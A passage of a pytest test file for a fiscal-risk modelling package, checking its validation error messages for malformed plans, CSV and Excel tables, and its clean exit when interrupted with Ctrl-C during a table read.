        fr.Distribution.from_dict({"dist": "discrete", "values": many, "weights": [1] * len(many)})
    data = {"plan": {"name": "n" * 1_001, "first_year": "2019/20", "years": 1, "net_budget": [1e6]}}
    with pytest.raises(fr.ValidationError, match="plan.name: a name of 1001 characters is longer than the 1000"):
        fr.Scenario.from_dict(data)
    data["plan"]["name"] = "n" * 1_000
    s = fr.Scenario.from_dict(data)
    with pytest.raises(fr.ValidationError, match="keep_trials"):
        s.simulate(trials=20_000_000, seed=1, keep_trials=True)


def test_a_table_without_actuals_or_budgets_says_so(tmp_path: Path) -> None:
    # Issue 38, item 15: "month: 0 is not between 1 and 12" and "sd: 0.0 must be greater than 0".
    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    rows = [r.split(",") for r in lines[1:]]
    months = [i for i, h in enumerate(header) if h[:1] == "m" and h[1:].isdigit()]
    empty = [[("" if i in months else c) for i, c in enumerate(r)] for r in rows]
    path = tmp_path / "no_actuals.csv"
    path.write_text("\n".join([lines[0], *(",".join(r) for r in empty)]) + "\n")
    with pytest.raises(fr.ValidationError, match="month: the table has no actuals"):
        fr.monitoring.forecast(fr.monitoring.read(path))
    budget = header.index("budget")
    zero = [[("0" if i == budget else c) for i, c in enumerate(r)] for r in rows]
    path = tmp_path / "zero.csv"
    path.write_text("\n".join([lines[0], *(",".join(r) for r in zero)]) + "\n")
    with pytest.raises(fr.ValidationError, match="budget: the TOTAL row's budget is 0"):
        fr.monitoring.overspend_distribution(fr.monitoring.read(path))


def test_a_huge_float_is_named_in_scientific_form() -> None:
    # Issue 38, item 15: population 1e300 was echoed with its 301 digits.
    data = {"plan": {"name": "x", "first_year": "2024/25", "years": 1},
            "funding": {"council_tax": {"tax_base": 1000, "band_d": 1000}},
            "spending": [{"name": "Care", "population": 1e300, "unit_cost": 1}], "reserves": {"general_fund": 1e6}}
    with pytest.raises(fr.ValidationError, match=r"spending\[0\]\.population: 1e300 is beyond the 1e15 pounds") as e:
        fr.Scenario.from_dict(data)
    assert len(str(e.value)) < 200


def test_check_says_each_place_once_and_names_a_ragged_row(tmp_path: Path) -> None:
    # Issue 37: "row 1, line ADU-01, forecast_outturn: row 1 ("ADU-01"), column forecast_outturn"
    # said the place twice; an unquoted 28,056,000 leaked "truncate_ragged_lines=True".
    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    rows = [r.split(",") for r in lines[1:]]
    rows[0][header.index("forecast_outturn")] = "abc"
    bad = tmp_path / "abc.csv"
    bad.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    first = run("check", str(bad)).stdout.splitlines()[0]
    # Rows as the spreadsheet numbers them: the first line under the headings is row 2.
    assert first.count("row 2") == 1 and first.count("forecast_outturn") == 1, first
    rows = [r.split(",") for r in lines[1:]]
    rows[0][header.index("forecast_outturn")] = "28,056,000"
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    done = run("check", str(ragged))
    assert done.returncode == 2 and "row 2 has 23 fields but the header has 21" in done.stderr
    assert "28,056,000, must be in quotes" in done.stderr and "truncate_ragged_lines" not in done.stderr


def test_ctrl_c_twice_while_a_table_is_read_exits_130_with_one_line(tmp_path: Path) -> None:
    # Issue 38, item 14: Ctrl-C during a hostile CSV parse exited 5.6-15.5 s later, with a
    # second KeyboardInterrupt inside the handler's print, two tracebacks and death by signal.
    # The row guard now refuses such a table within a second (100,000 rows at most); here the
    # read is made to block until interrupted, and Ctrl-C comes twice, 50 ms apart.
    import signal
    import time

    table = tmp_path / "m08.csv"
    table.write_text(EXAMPLE_M8)
    script = (
        "import sys, time\n"
        "import fiscalrisk.monitoring as mon\n"
        "from fiscalrisk.__main__ import main\n"
        "def slow(*args, **kwargs):\n"
        "    print('reading', flush=True)\n"
        "    while True:\n"
        "        time.sleep(0.01)\n"
        "mon.read = slow\n"
        f"sys.exit(main(['check', {str(table)!r}]))\n"
    )
    p = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert p.stdout is not None and p.stdout.readline().strip() == "reading"
    p.send_signal(signal.SIGINT)
    time.sleep(0.05)
    if p.poll() is None:
        p.send_signal(signal.SIGINT)
    start = time.monotonic()
    out, err = p.communicate(timeout=60)
    assert p.returncode == 130, (p.returncode, err)
    assert err.strip() == "fiscalrisk: interrupted" and "Traceback" not in err, err
    assert time.monotonic() - start < 5


def test_a_1e308_excel_cell_is_named_with_its_row_and_quoted_as_the_sheet_shows_it(tmp_path: Path) -> None:
    # Issue 38, item 15: a 1E+308 xlsx cell gave a polars strict_cast(Int64) message naming no
    # row; then a 309-digit number (the xlsx reader writes the float out in full).
    path = _m8_with_cell(tmp_path / "huge.xlsx", "forecast_outturn", lambda sheet, r, c: sheet.write_number(r, c, 1e308))
    done = run("check", str(path))
    assert done.returncode == 1, done.stderr
    first = done.stdout.splitlines()[0]
    assert first.startswith('error[not-a-number] row 2 ("ADU-01"), column forecast_outturn: "1e308" is beyond'), first
    assert len(first) < 200
